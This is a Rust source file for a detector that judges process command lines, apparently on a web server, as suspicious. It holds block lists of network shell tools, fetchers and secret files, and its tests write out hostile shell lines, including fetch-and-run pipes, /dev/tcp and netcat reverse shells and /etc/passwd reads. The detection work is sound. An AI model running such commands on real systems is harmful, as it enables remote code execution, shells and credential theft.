//! What a command says of whoever had it run: does it look around, fetch and run, call out? From
//! program and arguments alone, those of a shell's `-c` taken apart. No state. It need not
//! understand every shell line, only be hard to mislead; what is no command to it, is none.

use crate::detect::program::{Kind, Look};
use crate::event::process::Program;

/// Simple commands looked at in one line.
const COMMANDS_MAX: usize = 64;
/// Words looked at in one command.
const WORDS_MAX: usize = 64;

/// Programs that tell a stranger where he is; no web page needs them.
const ASKING: &[&str] = &["id", "whoami", "logname", "sudo", "getcap", "lastlog"];
/// Programs that tell about the machine; now and then a page shows it.
const LOOKING: &[&str] = &[
    "uname",
    "hostname",
    "ifconfig",
    "ip",
    "netstat",
    "ss",
    "ps",
    "w",
    "who",
    "last",
    "arp",
    "route",
    "env",
    "printenv",
    "lsb_release",
    "groups",
    "getent",
    "pwd",
    "ls",
    "dir",
    "df",
    "mount",
    "lsof",
    "dmesg",
    "lscpu",
    "find",
    "locate",
    "which",
    "uptime",
    "dpkg",
    "rpm",
    "top",
    "free",
    "hostnamectl",
];
/// Programs that carry bytes to and from elsewhere.
const CARRIERS: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "nc.traditional",
    "nc.openbsd",
    "socat",
    "telnet",
    "mkfifo",
    "chisel",
    "ngrok",
    "frpc",
    "rcat",
    "pwncat",
    "sshpass",
    "gs-netcat",
    "proxychains",
    "proxychains4",
    "masscan",
    "nmap",
];
/// Programs that change who may do what.
const CHANGERS: &[&str] = &[
    "useradd",
    "adduser",
    "usermod",
    "passwd",
    "chpasswd",
    "chattr",
    "insmod",
    "modprobe",
    "iptables",
    "nft",
    "crontab",
    "at",
    "systemctl",
    "su",
    "pkexec",
    "doas",
    "setcap",
    "visudo",
];
/// Programs that fetch.
const FETCHERS: &[&str] = &[
    "curl",
    "wget",
    "fetch",
    "aria2c",
    "lwp-download",
    "GET",
    "ftp",
    "tftp",
];
/// Programs that turn a text into what it hides.
const DECODERS: &[&str] = &["base64", "base32", "xxd", "openssl", "uudecode", "basenc"];
/// Programs that show what is in files.
const READERS: &[&str] = &[
    "cat", "head", "tail", "less", "more", "nl", "tac", "strings", "xxd", "od", "base64", "cp",
    "grep", "awk", "sed", "cut", "rev", "paste", "tar", "zip",
];
/// Files that say who is who, or keep secrets.
const SECRETS: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "/etc/sudoers",
    "/etc/group",
    "/etc/ssh/",
    "/proc/self/environ",
    "/proc/1/",
    ".ssh/",
    "id_rsa",
    "id_ed25519",
    "authorized_keys",
    ".bash_history",
    "wp-config.php",
    "/root/",
    ".aws/credentials",
    ".kube/config",
    "/var/run/secrets",
];
/// What may stand before a command.
const BEFORE: &[&str] = &[
    "sudo", "nohup", "exec", "time", "env", "nice", "setsid", "stdbuf", "command", "eval", "then",
    "do", "else", "if", "while", "!", "busybox", "builtin", "timeout",
];
/// Where anybody may put a program.
const OPEN_DIRECTORIES: &[&str] = &["/tmp/", "/var/tmp/", "/dev/shm/", "./", "../"];

/// What a command says.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Deed {
    /// The programs it names, sorted: what the baseline knows it by.
    pub programs: Vec<String>,
    /// Why nobody honest would run it.
    pub damning: Option<&'static str>,
    /// Names of programs that look around.
    pub looking: Vec<&'static str>,
}

impl Deed {
    /// What it is called in a baseline.
    #[must_use]
    pub fn shape(&self) -> String {
        self.programs.join(" ")
    }

    fn damn(&mut self, why: &'static str) {
        self.damning.get_or_insert(why);
    }
}

/// Judges a program that was started, by its arguments.
#[must_use]
pub fn judge(program: &Program) -> Deed {
    let look = Look::at(program);
    let name = look.name();
    let mut deed = Deed::default();
    match line_of(&look) {
        Some(line) => judge_line(line, &mut deed),
        None => {
            let mut words: Vec<String> = vec![name.to_owned()];
            let rest = look.args().iter().take(WORDS_MAX);
            words.extend(rest.map(|arg| arg.to_string()));
            judge_command(&words, &mut deed);
            if look.kind() == Kind::Shell && look.reads_commands() {
                deed.damn("is a shell that waits for commands");
            }
        }
    }
    if look.is_out_of_place() && look.kind() == Kind::Other {
        deed.damn("stands where anybody may put files");
    }
    deed.programs.push(format!("{name}:"));
    deed.programs.sort();
    deed.programs.dedup();
    deed.looking.sort_unstable();
    deed.looking.dedup();
    deed
}

/// What a shell was told with `-c`.
fn line_of<'p>(look: &Look<'p>) -> Option<&'p str> {
    if look.kind() != Kind::Shell {
        return None;
    }
    let mut args = look.args().iter().map(|arg| &**arg);
    args.find(|arg| arg.starts_with('-') && !arg.starts_with("--") && arg.contains('c'))?;
    args.find(|arg| !arg.starts_with('-') || arg.len() > 12)
}

fn judge_line(line: &str, deed: &mut Deed) {
    if line.contains("/dev/tcp/") || line.contains("/dev/udp/") {
        deed.damn("opens a connection from the shell");
    }
    let commands = commands(line);
    for (at, command) in commands.iter().enumerate() {
        judge_command(&command.words, deed);
        let before = at.checked_sub(1).and_then(|before| commands.get(before));
        let fed_by = before
            .filter(|before| before.is_piped)
            .map(|before| name_in(&before.words));
        if let (Some(source), true) = (fed_by, runs_input(&command.words)) {
            if FETCHERS.contains(&source) {
                deed.damn("runs what it fetches");
            } else if DECODERS.contains(&source) {
                deed.damn("runs what it decodes");
            } else {
                deed.damn("feeds an interpreter");
            }
        }
    }
    let has = |names: &[&str]| {
        commands
            .iter()
            .any(|command| names.contains(&name_in(&command.words)))
    };
    if has(FETCHERS) && has(&["chmod", "sh", "bash", "dash"]) {
        deed.damn("runs what it fetches");
    }
}

fn judge_command(words: &[String], deed: &mut Deed) {
    let words = body(words);
    let Some(first) = words.first() else { return };
    let name = base(first);
    let rest = words.get(1..).unwrap_or_default();
    deed.programs.push(name.to_owned());
    if OPEN_DIRECTORIES.iter().any(|of| first.starts_with(of)) && first.len() > 2 {
        deed.damn("runs a file from where anybody may put files");
    }
    if ASKING.contains(&name) {
        deed.damn("asks who it is and what it may do");
    }
    if CARRIERS.contains(&name) {
        deed.damn("carries bytes to and from elsewhere");
    }
    if CHANGERS.contains(&name) {
        deed.damn("changes who may do what");
    }
    let names_secret = |word: &String| SECRETS.iter().any(|secret| word.contains(secret));
    if READERS.contains(&name) && rest.iter().any(names_secret) {
        deed.damn("reads files that say who is who or keep secrets");
    }
    if carries_code(name, rest) {
        deed.damn("gives an interpreter code");
    }
    if is_shell(name)
        && rest
            .iter()
            .any(|word| word == "-i" || word == "-li" || word == "-il")
    {
        deed.damn("is a shell for a person");
    }
    if name == "find"
        && rest
            .iter()
            .any(|word| word == "-perm" || word == "-writable")
    {
        deed.damn("looks for a way to gain rights");
    }
    // Python asks this of itself.
    let is_own = name == "uname" && rest.first().is_some_and(|word| word == "-p");
    if let Some(known) = LOOKING
        .iter()
        .find(|known| **known == name)
        .filter(|_| !is_own)
    {
        deed.looking.push(known);
    }
}

/// Without assignments and what only says how to run it.
fn body(words: &[String]) -> &[String] {
    let mut words = words;
    while let Some((first, rest)) = words.split_first() {
        let is_assignment = first.split_once('=').is_some_and(|(name, _)| {
            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        });
        let is_before = BEFORE.contains(&base(first)) && !rest.is_empty();
        // What is run with the rights of another is damning by itself.
        if !(is_assignment || is_before) || base(first) == "sudo" {
            break;
        }
        words = rest;
        if base(first) == "timeout" {
            words = words.get(1..).unwrap_or_default();
        }
    }
    words
}

fn name_in(words: &[String]) -> &str {
    body(words).first().map_or("", |word| base(word))
}

fn base(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

fn is_shell(name: &str) -> bool {
    matches!(
        name,
        "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" | "csh" | "tcsh" | "fish"
    )
}

fn stem(name: &str) -> &str {
    name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
}

/// An interpreter that was given its program among its arguments.
fn carries_code(name: &str, rest: &[String]) -> bool {
    let options: &[&str] = match stem(name) {
        "python" | "pypy" => &["-c"],
        "perl" => &["-e", "-E", "-MIO", "-MSocket"],
        "ruby" | "lua" | "node" | "nodejs" => &["-e", "-rsocket"],
        "php" => &["-r"],
        _ => return false,
    };
    let starts = |word: &String| options.iter().any(|option| word.starts_with(option));
    rest.iter().take(4).any(starts)
}

/// Whether a command takes its program from its input.
fn runs_input(words: &[String]) -> bool {
    let words = body(words);
    let name = words.first().map_or("", |word| stem(base(word)));
    let is_interpreter =
        is_shell(name) || matches!(name, "python" | "perl" | "ruby" | "php" | "node");
    is_interpreter && words.iter().skip(1).all(|word| word.starts_with('-'))
}

/// A simple command in a line.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
struct Simple {
    words: Vec<String>,
    /// Its output goes to the next one.
    is_piped: bool,
}

/// Takes a line apart at whatever ends a simple command. Quotes keep words together; what is in
/// them is looked at too where it would be run.
fn commands(line: &str) -> Vec<Simple> {
    let mut all = Vec::new();
    let (mut now, mut word) = (Simple::default(), String::new());
    let (mut quote, mut outside) = (None, Vec::new());
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        if all.len() >= COMMANDS_MAX {
            return all;
        }
        match (quote, c) {
            (Some(open), _) if c == open => quote = None,
            (Some('\''), _) => word.push(c),
            (_, '\\') => word.extend(chars.next()),
            (None, '\'' | '"') => quote = Some(c),
            (_, '$') if chars.peek() == Some(&'(') => {
                chars.next();
                end(&mut all, &mut now, &mut word, false);
                // Whatever quotes it is in, it is run; they go on behind it.
                outside.push(quote.take());
            }
            (_, '`') => end(&mut all, &mut now, &mut word, false),
            (Some(_), _) => word.push(c),
            (None, '|') => {
                // `||` is an end like others.
                let is_piped = chars.peek() != Some(&'|');
                end(&mut all, &mut now, &mut word, is_piped);
            }
            (None, ')') if !outside.is_empty() => {
                quote = outside.pop().flatten();
                end(&mut all, &mut now, &mut word, false);
            }
            (None, ';' | '&' | '\n' | '(' | ')' | '{' | '}') => {
                end(&mut all, &mut now, &mut word, false);
            }
            (None, _) if c.is_whitespace() || matches!(c, '<' | '>') => push(&mut now, &mut word),
            (None, _) => word.push(c),
        }
    }
    end(&mut all, &mut now, &mut word, false);
    all
}

fn push(now: &mut Simple, word: &mut String) {
    if !word.is_empty() && now.words.len() < WORDS_MAX {
        now.words.push(std::mem::take(word));
    }
    word.clear();
}

fn end(all: &mut Vec<Simple>, now: &mut Simple, word: &mut String, is_piped: bool) {
    push(now, word);
    if !now.words.is_empty() {
        now.is_piped = is_piped;
        all.push(std::mem::take(now));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn shell(line: &str) -> Deed {
        run(&["sh", "-c", line])
    }

    fn run(words: &[&str]) -> Deed {
        judge(&Program {
            executable: Some(format!("/usr/bin/{}", words[0]).into()),
            args: words.iter().map(|word| (*word).into()).collect(),
            ..Program::default()
        })
    }

    #[test]
    fn what_only_a_stranger_asks_is_damning() {
        for line in [
            "id",
            "cd /tmp; whoami 2>&1",
            "uname -a; cat /etc/passwd",
            "/usr/bin/id",
            "LC_ALL=C timeout 5 id",
            "wget -qO- http://192.0.2.1/x | sh",
            "curl http://192.0.2.1/x -o /tmp/x; chmod +x /tmp/x; /tmp/x",
            "echo aWQ= | base64 -d | bash",
            "bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'",
            "nc -e /bin/sh 192.0.2.1 4444",
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1",
            "python3 -c 'import socket'",
            "perl -e 'use Socket;'",
            "echo `whoami`",
            "echo \"$(id)\"",
            "echo \"$(date)\"; whoami",
            "find / -perm -4000 2>/dev/null",
            "w''hoami",
        ] {
            assert!(shell(line).damning.is_some(), "{line}");
        }
        assert!(run(&["id"]).damning.is_some() && run(&["sh"]).damning.is_some());
    }

    #[test]
    fn what_pages_do_is_not() {
        for line in [
            "gm convert -version",
            "/usr/bin/convert 'a;id.jpg' -resize 100x100 out.jpg",
            "ffmpeg -i in.mp4 out.webm 2>&1",
            "/usr/sbin/sendmail -t -i",
            "git --version",
            "wkhtmltopdf http://127.0.0.1/a.html - 2>/dev/null",
            "df -h",
        ] {
            assert_eq!(shell(line).damning, None, "{line}");
        }
        assert_eq!(run(&["uname", "-p"]).looking, [""; 0]);
    }

    #[test]
    fn looking_around_is_counted_by_program() {
        assert_eq!(shell("uname -a; ps aux; uname -r").looking, ["ps", "uname"]);
        assert_eq!(shell("gm convert a b").shape(), "gm sh:");
    }

    proptest! {
        #[test]
        fn arbitrary_lines_never_panic(line: String) {
            let _ = shell(&line);
            prop_assert!(commands(&line).len() <= COMMANDS_MAX + 1);
        }

        #[test]
        fn a_damning_command_stays_so_among_others(before in "[a-z ]{0,20}", after in "[a-z ]{0,20}") {
            let line = format!("{before}; id; {after}");
            prop_assert!(shell(&line).damning.is_some());
        }
    }
}
